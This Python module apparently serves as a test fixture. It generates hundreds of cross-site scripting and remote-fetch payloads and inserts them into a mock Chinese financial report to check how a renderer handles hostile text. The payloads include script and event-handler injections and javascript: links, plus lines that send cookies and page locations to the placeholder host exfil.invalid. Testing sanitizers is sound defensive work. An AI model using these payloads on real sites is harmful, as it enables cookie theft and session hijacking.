"""Hostile text as it could stand in a report: scripts, markup, formulas and addresses that carry data away."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

ELSEWHERE = "http://exfil.invalid"
_RUN = ("window.__ran=1", f"fetch(`{ELSEWHERE}/`+document.cookie)", f"new Image().src=`{ELSEWHERE}/?`+location")
_MARKUP = (
    "<script>{0}</script>", "<ScRiPt>{0}</sCrIpT>", "<img src=x onerror='{0}'>", "<svg onload='{0}'>",
    "<svg/onload={0}>",
    "<svg><script>{0}</script></svg>", "<body onload='{0}'>", "<details open ontoggle='{0}'>",
    "<video><source onerror='{0}'>",
    "<input autofocus onfocus='{0}'>", "<iframe srcdoc=\"<script>parent.{0}</script>\">",
    "<iframe src=\"javascript:{0}\">",
    "<math><mtext><style><img src onerror='{0}'></style></mtext></math>", "<a href=\"javascript:{0}\">甲</a>",
    "</td></table><script>{0}</script>", "'\"><script>{0}</script>", "\" onmouseover='{0}' x=\"",
    "' onfocus='{0}' autofocus='",
    "</textarea><script>{0}</script>", "</style><script>{0}</script>", "<!--><script>{0}</script>-->",
    "<noscript><p title='</noscript><img src onerror={0}>'>", "<template><script>{0}</script></template>",
    "<marquee onstart='{0}'>", "<object data=\"javascript:{0}\">", "<form><button formaction=\"javascript:{0}\">甲",
    "[点我](javascript:{0})", "[x]: javascript:{0}", "![x](x \"onerror='{0}'\")", "`</code><script>{0}</script>`",
    "$\\href{{javascript:{0}}}{{x}}$", "{{{{constructor.constructor('{0}')()}}}}", "${{{0}}}",
    "&lt;script&gt;{0}&lt;/script&gt;",
    "&#60;script&#62;{0}&#60;/script&#62;", "<style>@import 'x';</style><script>{0}</script>",
    "\u202e<script>{0}</script>",
    "<img src=x:x onerror=eval('{0}')>", "<select onfocus='{0}' autofocus>", "<audio src onloadstart='{0}'>",
)  # fmt: skip
_FETCH = (
    "![x]({0}/p.png)", "<img src='{0}/p.png'>", "<link rel=stylesheet href='{0}/s.css'>",
    "<link rel=prefetch href='{0}/'>",
    "<script src='{0}/s.js'></script>", "<iframe src='{0}/'></iframe>", "<object data='{0}/x'></object>",
    "<embed src='{0}/x'>",
    "<video src='{0}/v' autoplay></video>", "<audio src='{0}/a' autoplay></audio>", "<img srcset='{0}/p.png 1x'>",
    "<div style='background:url({0}/b)'>甲</div>", "<style>@import '{0}/i.css';</style>",
    "<svg><image href='{0}/i'/></svg>",
    "<svg><use href='{0}/u#x'/></svg>", "<meta http-equiv=refresh content='0;url={0}/'>", "<base href='{0}/'>",
    "<form action='{0}/' id=f></form><script>f.submit()</script>", "<table background='{0}/t'><td>甲</td></table>",
    "<input type=image src='{0}/i'>", "[![x]({0}/p.png)]({0}/)", "![x][r]\n[r]: {0}/p.png", "<body background='{0}/b'>",
    "<video poster='{0}/p'></video>", "<picture><source srcset='{0}/p'><img></picture>",
    "$\\includegraphics{{{0}/p.png}}$",
)  # fmt: skip
_ENDS = ("", " 210.35 亿元", "</b></p></div>")


def payloads() -> Iterator[str]:
    """More than 300 texts; a script that runs sets ``window.__ran`` or asks ``exfil.invalid``."""
    for markup, script, end in product(_MARKUP, _RUN, _ENDS[:2]):
        yield markup.format(script) + end
    for markup, end in product(_FETCH, _ENDS):
        yield markup.format(ELSEWHERE) + end


def report_with(texts: list[str], number: int) -> str:
    """A report with the texts as names in a table, in its title, in headings, and in its prose."""
    flat = [" ".join(text.split()) for text in texts]
    rows = "\n".join(f"60{number:02d}{i:02d}.SH\t{text}\t{100 + i}.25" for i, text in enumerate(flat))
    prose = "\n\n".join(f"关于风险{number}-{i}，{text}，提示原材料价格波动。" for i, text in enumerate(flat))
    return (
        f"{flat[0]} 行业月报（2024年4月）\n\n一、市场行情 {flat[-1]}\n\n表1：公司一览 {flat[0]}\n"
        f"证券代码\t证券简称\t总市值(亿元)\n{rows}\n资料来源：{flat[0]}\n\n二、风险提示\n\n{prose}\n"
    )
